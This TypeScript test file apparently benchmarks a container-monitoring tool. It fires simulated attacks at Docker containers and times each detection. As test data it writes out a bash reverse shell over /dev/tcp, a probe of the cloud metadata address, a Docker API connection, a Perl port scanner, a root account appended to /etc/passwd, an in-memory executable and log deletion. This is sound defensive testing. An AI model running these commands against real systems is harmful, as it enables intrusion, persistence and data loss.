import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { locateEngine } from '../../src/outside/engine/locate-engine.ts';
import { openEngine } from '../../src/outside/engine/open-engine.ts';
import { hostClock } from '../../src/outside/process/host-clock.ts';
import { localHost } from '../../src/outside/process/local-host.ts';
import { detections } from '../../src/watch/detections/index.ts';
import { watchHost } from '../../src/watch/host/watch-host.ts';
import { openLoop } from '../../src/watch/loop/open-loop.ts';
import type { WatchMessage } from '../../src/watch/output/watch-message.ts';

/** A service that starts the commands it finds in a folder, as an exploit would make it do: one word a line. */
const SERVICE =
  'while (1) { for my $f (glob "/cmd/*.run") { open F, $f; chomp(my @a = <F>); close F; unlink $f; unless (fork) { exec @a } } select undef, undef, undef, 0.1 }';
/** The first minute is for entry points. */
const STARTED_MS = 62_000;
/** Machines that run tests are busy: what is measured is in bench/watch.md. */
const LIMIT_MS = 90_000;

/** Containers of one attack alone. */
const PASSING = ['attack-host', 'attack-image', 'attack-storm', 'attack-oom'];

type Stage = {
  readonly docker: (...args: readonly string[]) => string;
  /** Lets the service start a program. */
  readonly start: (...words: readonly string[]) => void;
  readonly gateway: string;
  readonly port: number;
};
type Attack = { readonly detection: string; readonly act: (stage: Stage) => void };

const bash = (script: string): readonly string[] => ['bash', '-c', script];
const renamed = (path: string): readonly string[] => bash(`cp /bin/sleep ${path}; exec ${path} 20`);

const MEMORY =
  'my $n = "x"; my $fd = syscall(319, $n, 0); open my $o, ">&=$fd"; open my $i, "<", "/bin/sleep"; binmode $i; binmode $o; local $/; print {$o} <$i>; open my $r, "<", "/proc/$$/fd/$fd"; close $o; my $k = fileno $r; exec { "/proc/$$/fd/$k" } "x", "20"';
const SCAN =
  'use IO::Socket::INET; for my $p (20000 .. 22000) { IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $p, Timeout => 1) } sleep 20';
const LISTEN =
  'use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die; sleep 20';

export const ATTACKS: readonly Attack[] = [
  { detection: 'shell-in-service', act: ({ start }) => start(...bash('sleep 20; true')) },
  {
    detection: 'reverse-shell',
    act: ({ start, gateway, port }) => start(...bash(`exec bash 0<>/dev/tcp/${gateway}/${port}`)),
  },
  {
    detection: 'package-manager',
    act: ({ start, gateway, port }) =>
      start('timeout', '20', 'apt-get', '-o', `Acquire::http::Proxy=http://${gateway}:${port}`, 'update'),
  },
  { detection: 'new-executable', act: ({ start }) => start(...renamed('/usr/local/bin/kworker')) },
  { detection: 'memory-executable', act: ({ start }) => start('perl', '-e', MEMORY) },
  { detection: 'scratch-executable', act: ({ start }) => start(...renamed('/tmp/.x')) },
  { detection: 'miner', act: ({ start }) => start(...bash('exec -a "./kswap -o stratum+tcp://pool:3333" sleep 20')) },
  { detection: 'network-tool', act: ({ start }) => start(...renamed('/tmp/nmap')) },
  { detection: 'engine-client', act: ({ start }) => start(...renamed('/tmp/docker')) },
  { detection: 'credential-search', act: ({ start }) => start(...bash('exec grep -r id_rsa <(sleep 20)')) },
  { detection: 'wipe-tool', act: ({ start }) => start(...bash('exec rm -ri /opt < <(sleep 20)')) },
  {
    detection: 'became-root',
    act: ({ docker }) => {
      docker('exec', 'attack-user', 'touch', '/cmd/go');
    },
  },
  {
    detection: 'namespace-join',
    act: ({ docker }) => {
      const pid = docker('inspect', '--format', '{{.State.Pid}}', 'attack-web');
      spawn('nsenter', ['-t', pid, '-m', 'sleep', '20'], { stdio: 'ignore' });
    },
  },
  { detection: 'exec-into-service', act: ({ docker }) => docker('exec', 'attack-web', 'sh', '-c', 'true') },
  { detection: 'copied-in', act: ({ docker }) => docker('cp', '/etc/hostname', 'attack-web:/root/x') },
  { detection: 'image-from-container', act: ({ docker }) => docker('commit', 'attack-web', 'attack:copy') },
  {
    detection: 'dangerous-container',
    act: ({ docker }) => docker('run', '-d', '--name', 'attack-host', '--pid', 'host', 'debian:12', 'sleep', '60'),
  },
  {
    detection: 'untrusted-image',
    act: ({ docker }) => {
      docker('tag', 'debian:12', 'stranger99/app:1');
      docker('run', '-d', '--name', 'attack-image', 'stranger99/app:1', 'sleep', '60');
    },
  },
  {
    detection: 'restart-storm',
    act: ({ docker }) => docker('run', '-d', '--name', 'attack-storm', '--restart', 'always', 'debian:12', 'false'),
  },
  {
    detection: 'out-of-memory',
    act: ({ docker }) =>
      docker(
        'run',
        '-d',
        '--name',
        'attack-oom',
        '--restart',
        'always',
        '--memory',
        '24m',
        '--memory-swap',
        '24m',
        'debian:12',
        'perl',
        '-e',
        'my $x = "a" x 200_000_000; sleep 9',
      ),
  },
  {
    detection: 'data-removed',
    act: ({ docker }) => {
      const names = Array.from({ length: 5 }, (_, index) => `attack-volume-${index}`);
      for (const name of names) docker('volume', 'create', name);
      docker('volume', 'rm', ...names);
    },
  },
  {
    detection: 'metadata-address',
    act: ({ start, port }) => start(...bash(`exec 3<>/dev/tcp/169.254.169.254/${port}; sleep 20`)),
  },
  {
    detection: 'engine-api-peer',
    act: ({ start, gateway }) => start(...bash(`exec 3<>/dev/tcp/${gateway}/2375; sleep 20`)),
  },
  { detection: 'port-scan', act: ({ start, gateway }) => start('perl', '-e', SCAN, gateway) },
  { detection: 'undeclared-listener', act: ({ start }) => start('perl', '-e', LISTEN) },
  { detection: 'sensitive-file', act: ({ start }) => start(...bash('echo "toor:x:0:0::/:/bin/sh" >> /etc/passwd')) },
  { detection: 'planted-program', act: ({ start }) => start(...bash('echo x > /usr/bin/lsx')) },
  { detection: 'mass-change', act: ({ start }) => start(...bash('for i in {1..600}; do echo x > /srv/$i; done')) },
  { detection: 'log-removed', act: ({ start }) => start('rm', '/var/log/dpkg.log') },
];

/** How long each attack took to be told, in milliseconds; undefined: not within the limit. */
type Outcome = { readonly detection: string; readonly milliseconds: number | undefined };

/** Runs every attack against a real engine that is watched, one after the other. */
export const runAttacks = async (
  socket: string,
): Promise<{ readonly results: readonly Outcome[]; readonly told: readonly WatchMessage[] }> => {
  const docker = (...args: readonly string[]): string => {
    const { status, stdout, stderr } = spawnSync('docker', ['-H', `unix://${socket}`, ...args], {
      encoding: 'utf8',
      timeout: 60_000,
    });
    if (status !== 0) throw new Error(`docker ${args.join(' ')}: ${stderr}`);
    return stdout.trim();
  };
  const endpoint = locateEngine({ DOCKER_HOST: `unix://${socket}` });
  if (!endpoint.ok) throw new Error(endpoint.message);
  const folder = mkdtempSync(join(tmpdir(), 'plimsoll-attacks-'));
  const gateway = docker('network', 'inspect', 'bridge', '--format', '{{(index .IPAM.Config 0).Gateway}}');
  const servers: Server[] = [];
  const listen = async (host: string, port: number): Promise<number> => {
    // a container that is gone never closes its connection, and nothing here shall wait for it
    const server = createServer((connection) => connection.on('error', () => undefined).unref());
    servers.push(server);
    await new Promise<void>((resolve, reject) => server.once('error', reject).listen(port, host, resolve));
    const address = server.address();
    return typeof address === 'object' && address ? address.port : 0;
  };
  const device =
    /^\d+: (\S+)/.exec(spawnSync('ip', ['-o', 'addr', 'show', 'to', gateway], { encoding: 'utf8' }).stdout)?.[1] ?? '';
  const cancel = new AbortController();
  const told: WatchMessage[] = [];
  let watching: Promise<void> | undefined;
  try {
    spawnSync('ip', ['addr', 'add', '169.254.169.254/32', 'dev', device]);
    const port = await listen('0.0.0.0', 0);
    await listen(gateway, 2375);
    docker(
      'run',
      '-d',
      '--name',
      'attack-web',
      '--tmpfs',
      '/tmp:exec',
      '-v',
      `${folder}:/cmd`,
      'debian:12',
      'perl',
      '-e',
      SERVICE,
    );
    const setuid =
      'my $go = "/cmd/go"; while (1) { if (-e $go) { unlink $go; unless (fork) { exec "/usr/local/bin/become", "20" } } select undef, undef, undef, 0.1 }';
    docker(
      'run',
      '-d',
      '--name',
      'attack-user',
      '--user',
      '1000:1000',
      '--tmpfs',
      '/cmd:mode=1777',
      'debian:12',
      'perl',
      '-e',
      setuid,
    );
    docker(
      'exec',
      '--user',
      '0',
      'attack-user',
      'sh',
      '-c',
      'cp /bin/sleep /usr/local/bin/become; chmod 4755 /usr/local/bin/become',
    );
    const loop = openLoop({ detections, baseline: [], warmUpMs: 86_400_000, frozen: false, expect: [] });
    watching = watchHost({
      engine: openEngine(endpoint.value),
      host: localHost(),
      clock: hostClock,
      loop,
      terms: { roles: new Map(), trustedRegistries: [] },
      say: (one) => told.push(one),
      signal: cancel.signal,
    });
    await sleep(STARTED_MS);
    const start = (...words: readonly string[]): void => {
      // a file is there before its words are, and the service would start what it finds in it then: nothing
      const draft = join(folder, 'draft');
      writeFileSync(draft, `${words.join('\n')}\n`);
      renameSync(draft, join(folder, `${performance.now()}.run`));
    };
    const results: Outcome[] = [];
    for (const { detection, act } of ATTACKS) {
      const from = told.length;
      const isTold = (): boolean =>
        told.slice(from).some((one) => one.kind === 'alert' && one.alert.detection === detection);
      act({ docker, start, gateway, port });
      const began = performance.now();
      while (!isTold() && performance.now() - began < LIMIT_MS) await sleep(20);
      spawnSync('docker', ['-H', `unix://${socket}`, 'rm', '-f', ...PASSING], { stdio: 'ignore' });
      results.push({ detection, milliseconds: isTold() ? Math.round(performance.now() - began) : undefined });
    }
    return { results, told };
  } finally {
    cancel.abort();
    await watching;
    for (const server of servers) server.close();
    spawnSync('ip', ['addr', 'del', '169.254.169.254/32', 'dev', device]);
    spawnSync('docker', [
      '-H',
      `unix://${socket}`,
      'rm',
      '-f',
      'attack-web',
      'attack-user',
      'attack-host',
      'attack-image',
      'attack-storm',
      'attack-oom',
    ]);
    rmSync(folder, { recursive: true, force: true });
  }
};
